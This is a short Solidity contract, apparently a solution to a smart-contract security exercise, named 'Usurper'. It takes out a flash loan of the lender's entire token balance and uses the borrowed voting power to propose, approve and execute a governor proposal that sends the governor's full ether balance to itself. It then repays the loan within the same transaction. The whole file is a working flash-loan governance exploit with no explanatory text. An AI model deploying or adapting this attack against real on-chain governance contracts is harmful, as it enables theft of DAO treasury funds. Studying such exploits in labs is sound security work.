// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {Token} from "../../shared/contracts/Token.sol";
import {FlashLender, IFlashBorrower} from "../../shared/contracts/FlashLender.sol";
import {QuickGovernor} from "./QuickGovernor.sol";

/// @title Borrows the votes for one transaction
contract Usurper is IFlashBorrower {
    QuickGovernor private immutable governor;
    FlashLender private immutable lender;

    constructor(QuickGovernor governor_, FlashLender lender_) {
        governor = governor_;
        lender = lender_;
    }

    function usurp() external {
        Token token = governor.token();
        lender.flashLoan(this, token, token.balanceOf(address(lender)), "");
    }

    function onFlashLoan(Token token, uint256 amount, uint256, bytes calldata) external {
        token.approve(address(governor), amount);
        governor.lock(amount);
        uint256 id = governor.suggest(address(this), address(governor).balance, "");
        governor.support(id);
        governor.carryOut(id);
        governor.unlock(amount);
        token.transfer(address(lender), token.balanceOf(address(this)));
    }

    receive() external payable {}
}
